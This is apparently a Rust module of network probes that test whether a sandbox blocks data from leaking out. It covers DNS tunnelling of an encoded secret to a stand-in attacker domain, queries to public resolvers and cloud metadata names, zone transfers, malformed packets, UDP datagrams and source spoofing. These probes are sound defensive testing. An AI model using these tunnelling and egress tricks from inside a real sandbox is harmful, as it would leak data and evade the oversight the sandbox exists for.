//! Names and datagrams.

use crate::kit::{Facts, Probe, Seen, all, each, probe, says, seen};
use crate::net::{WAIT, connect, datagram};
use crate::sockets::bound_as;
use std::io::{Read, Write};

const NO_SUCH: &str = "no such name";
const SERVER: &str = "198.18.0.53:53";
const SECRET: &str = "c2stYW50LWhleHdhcmQtc3RvbGVu.hexward-attack.example";
const TYPE_A: u16 = 1;
const TYPE_TXT: u16 = 16;

pub const PROBES: &[Probe] = &[
    probe("names.tunnel", "send a secret as a name", NO_SUCH, |_| unknown(SERVER, SECRET, TYPE_TXT)),
    probe("names.tunnel_kinds", "the same with every kind of question", NO_SUCH, |_| {
        let kinds = [1, 2, 5, 6, 10, 12, 15, 16, 28, 33, 35, 43, 64, 65, 251, 252, 255, 256];
        all(kinds.iter().map(|kind| (kind.to_string(), unknown(SERVER, SECRET, *kind))).collect())
    }),
    probe("names.other_servers", "the same at other servers", NO_SUCH, |_| {
        each(&["8.8.8.8:53", "1.1.1.1:53", "[2001:4860:4860::8888]:53", "127.0.0.1:53", "169.254.169.253:53"], |server| {
            unknown(server, SECRET, TYPE_A)
        })
    }),
    probe("names.over_tcp", "the same over TCP", NO_SUCH, |_| over_tcp(SECRET)),
    probe("names.over_tls", "the same over TLS (port 853)", "nobody listens", |_| crate::net::closed("1.1.1.1:853")),
    probe("names.internal", "names of the host, the cloud and the local network", NO_SUCH, |_| {
        each(
            &[
                "localhost.localdomain",
                "metadata.google.internal",
                "wpad",
                "kubernetes.default.svc",
                "host.docker.internal",
                "gateway",
            ],
            |name| unknown(SERVER, name, TYPE_A),
        )
    }),
    probe("names.rebinding", "get an address of the inside for a name that is listed", "a synthetic address", |_| {
        resolves(&["api.anthropic.com", "API.anthropic.COM"])
    }),
    probe("names.odd_questions", "two questions, another class, a zone transfer, an update", "no answer with an address", odd),
    probe("names.as_answer", "send an answer instead of a question", "no answer", |_| {
        let mut packet = query(SECRET, TYPE_A);
        if let Some(flags) = packet.get_mut(2) {
            *flags |= 0x80;
        }
        silent(datagram("0.0.0.0:0", SERVER, &packet))
    }),
    probe("names.garbage", "packets that are no question", "no answer", |_| {
        all(vec![
            ("empty".to_owned(), silent(datagram("0.0.0.0:0", SERVER, b""))),
            ("ones".to_owned(), silent(datagram("0.0.0.0:0", SERVER, &[0xff; 512]))),
            (
                "loop".to_owned(),
                silent(datagram("0.0.0.0:0", SERVER, &[0, 1, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0, 0xc0, 12, 0, 1, 0, 1])),
            ),
        ])
    }),
    probe("datagrams.quic", "HTTP/3 (UDP 443)", "no answer", |_| {
        each(&["160.79.104.10:443", "8.8.8.8:443", "[2001:db8::1]:443"], |to| silent(datagram(any(to), to, &[0xc3; 1200])))
    }),
    probe("datagrams.elsewhere", "datagrams to other ports", "no answer", |_| {
        each(
            &[
                "8.8.8.8:123",
                "10.0.0.1:161",
                "10.0.0.1:514",
                "1.1.1.1:51820",
                "127.0.0.1:8125",
                "1.1.1.1:4500",
                "[2001:db8::1]:69",
            ],
            |to| silent(datagram(any(to), to, b"secret")),
        )
    }),
    probe("datagrams.multicast", "speak to everybody on the local network", "no answer", |_| {
        each(&["224.0.0.251:5353", "239.255.255.250:1900", "255.255.255.255:67"], |to| {
            silent(datagram("0.0.0.0:0", to, b"secret"))
        })
    }),
    probe("datagrams.spoof", "claim another source", "it stays in its own network", spoof),
];

fn any(to: &str) -> &'static str {
    if to.starts_with('[') { "[::]:0" } else { "0.0.0.0:0" }
}

fn silent(result: std::io::Result<Vec<u8>>) -> Seen {
    match result {
        Ok(answer) => seen(false, format!("{} bytes came back", answer.len())),
        Err(error) => seen(true, says(&error)),
    }
}

fn query(name: &str, kind: u16) -> Vec<u8> {
    let mut packet = vec![0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0];
    for label in name.split('.') {
        packet.push(u8::try_from(label.len()).unwrap_or(0));
        packet.extend(label.bytes());
    }
    packet.push(0);
    packet.extend(kind.to_be_bytes());
    packet.extend([0, 1]);
    packet
}

/// The code and the number of answers in a reply.
fn outcome(answer: &[u8]) -> Option<(u8, u16)> {
    Some((answer.get(3)? & 15, u16::from_be_bytes([*answer.get(6)?, *answer.get(7)?])))
}

fn unknown(server: &str, name: &str, kind: u16) -> Seen {
    match datagram(any(server), server, &query(name, kind)) {
        Err(error) => seen(true, says(&error)),
        Ok(answer) => {
            let outcome = outcome(&answer);
            seen(outcome.is_some_and(|(_, answers)| answers == 0), format!("(code, answers) = {outcome:?}"))
        }
    }
}

/// Each name has exactly one address, of the range that leads nowhere but to the gateway.
pub fn resolves(names: &[&str]) -> Seen {
    each(names, |name| match datagram("0.0.0.0:0", SERVER, &query(name, TYPE_A)) {
        Err(error) => seen(false, says(&error)),
        Ok(answer) => {
            let last = answer.len().checked_sub(4).and_then(|at| answer.get(at..)).unwrap_or_default();
            seen(outcome(&answer) == Some((0, 1)) && last.starts_with(&[198, 18]), format!("{last:?}"))
        }
    })
}

fn over_tcp(name: &str) -> Seen {
    let packet = query(name, TYPE_TXT);
    let asked = connect("8.8.8.8:53").and_then(|mut stream| {
        stream.set_read_timeout(Some(WAIT))?;
        stream.write_all(&u16::try_from(packet.len()).unwrap_or(0).to_be_bytes())?;
        stream.write_all(&packet)?;
        let mut head = [0; 10];
        stream.read_exact(&mut head)?;
        Ok(head)
    });
    match asked {
        Err(error) => seen(true, says(&error)),
        Ok(head) => {
            let outcome = head.get(2..).and_then(outcome);
            seen(outcome.is_some_and(|(_, answers)| answers == 0), format!("(code, answers) = {outcome:?}"))
        }
    }
}

fn odd(_: &Facts) -> Seen {
    let change = |at: usize, value: u8| {
        let mut packet = query("api.anthropic.com", TYPE_A);
        if let Some(byte) = packet.get_mut(at) {
            *byte = value;
        }
        packet
    };
    let last = query("api.anthropic.com", TYPE_A).len() - 1;
    let tries = [
        ("two questions", change(5, 2)),
        ("chaos", change(last, 3)),
        ("update", change(2, 0x29)),
        ("notify", change(2, 0x21)),
        ("transfer", query("api.anthropic.com", 252)),
    ];
    all(tries
        .iter()
        .map(|(name, packet)| {
            let nothing = match datagram("0.0.0.0:0", SERVER, packet) {
                Err(error) => seen(true, says(&error)),
                Ok(answer) => seen(outcome(&answer).is_some_and(|(_, answers)| answers == 0), format!("{:?}", outcome(&answer))),
            };
            ((*name).to_owned(), nothing)
        })
        .collect())
}

/// Every address is the sandbox's own, so it may call itself anything; its answers come back to it and nobody else.
fn spoof(_: &Facts) -> Seen {
    each(&["8.8.8.8", "10.0.0.1", "203.0.113.9"], |source| {
        let talked = bound_as(source).and_then(|socket| {
            socket.set_read_timeout(Some(WAIT))?;
            socket.send_to(&query(SECRET, TYPE_A), SERVER)?;
            let mut buffer = [0; 512];
            let (count, _) = socket.recv_from(&mut buffer)?;
            Ok(outcome(buffer.get(..count).unwrap_or_default()))
        });
        match talked {
            Err(error) => seen(true, says(&error)),
            Ok(outcome) => seen(outcome.is_some_and(|(_, answers)| answers == 0), format!("came back to itself: {outcome:?}")),
        }
    })
}
